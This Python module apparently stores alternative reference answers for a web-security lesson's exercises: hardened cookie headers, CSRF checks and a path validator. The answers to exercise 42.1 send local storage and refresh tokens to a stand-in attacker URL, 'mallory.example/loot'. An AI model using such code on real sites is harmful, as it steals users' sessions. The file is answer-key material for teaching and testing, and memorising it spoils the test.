"""Right answers to the exercises of lesson 42 that are not our own."""

from __future__ import annotations

_LOOT = "https://mallory.example/loot"

OTHERS: dict[str, list[str]] = {
    "42.1": [
        f"def answer(window):\n    window.fetch('{_LOOT}', 'POST', mode='no-cors', body=str(window.local_storage))",
        f"def answer(w):\n    w.navigate('{_LOOT}?taken=' + w.local_storage['refresh_token'])",
        f"def answer(w):\n    for each in w.local_storage.values():\n"
        f"        w.fetch('{_LOOT}', 'POST', mode='no-cors', form={{'x': each}})",
        f"answer = lambda w: w.fetch('{_LOOT}', 'POST', body=w.local_storage['refresh_token'])",
    ],
    "42.2": [
        "def answer(value):\n    return f'__Host-s={value};path=/;samesite=strict;secure;httponly'",
        "def answer(value):\n    return '; '.join(['__Host-id=' + value, 'Path=/', 'Secure', 'HttpOnly', 'SameSite=Strict'])",
        "from http.cookies import SimpleCookie\ndef answer(value):\n    jar = SimpleCookie({'__Host-session': value})\n"
        "    jar['__Host-session'].update({'secure': True, 'httponly': True, 'samesite': 'Strict', 'path': '/'})\n"
        "    return jar['__Host-session'].OutputString()",
    ],
    "42.3": [
        "def answer(method, headers, session):\n    if session is None or (method not in ('GET', 'HEAD') and not session.get('csrf')):\n        return False\n    return method in ('GET', 'HEAD') or session['csrf'] == headers.get('x-csrf-token')",
        "import hmac\ndef answer(method, headers, session):\n    if not session:\n        return False\n"
        "    mine, sent = session.get('csrf') or '', headers.get('x-csrf-token', '')\n"
        "    safe = method in {'GET', 'HEAD'}\n"
        "    return safe or (mine != '' and hmac.compare_digest(mine.encode(), sent.encode()))",
        "def answer(method, headers, session):\n    match method, session:\n        case _, None:\n            return False\n"
        "        case ('GET' | 'HEAD'), _:\n            return True\n"
        "        case _, {'csrf': token} if token:\n            return headers.get('x-csrf-token') == token\n"
        "    return False",
    ],
    "42.4": [
        "def answer(path):\n    api, digits = 'https://api.notes.example', set('0123456789')\n    head, _, number = path.rpartition('/')\n    if path == '/backend/notes':\n        return api + '/notes'\n    return f'{api}/notes/{number}' if head == '/backend/notes' and number and set(number) <= digits else None",
        "def answer(path):\n    parts = path.split('/')\n    if parts[:3] != ['', 'backend', 'notes']:\n        return None\n"
        "    if len(parts) == 3:\n        return 'https://api.notes.example/notes'\n"
        "    if len(parts) == 4 and parts[3].isascii() and parts[3].isdigit():\n"
        "        return 'https://api.notes.example/notes/' + parts[3]",
        "import re\ndef answer(path):\n    if re.fullmatch(r'/backend/notes(/\\d+)?', path, re.ASCII):\n"
        "        return path.replace('/backend', 'https://api.notes.example', 1)",
    ],
}
